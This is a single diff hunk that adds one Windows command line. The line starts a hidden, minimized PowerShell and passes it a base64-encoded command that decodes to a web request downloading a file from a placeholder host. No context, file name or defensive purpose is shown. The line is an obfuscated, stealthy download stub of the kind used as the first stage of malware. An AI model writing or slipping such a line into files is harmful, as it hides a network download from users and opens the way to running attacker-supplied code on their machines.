@@ -1,0 +1,1 @@
+%COMSPEC% /c start /min powershell -w 1 -e aQB3AHIAIABoAHQAdABwADoALwAvAGEALgBlAHgAYQBtAHAAbABlAC8AcAAvAHgALgB0AHgAdAA=
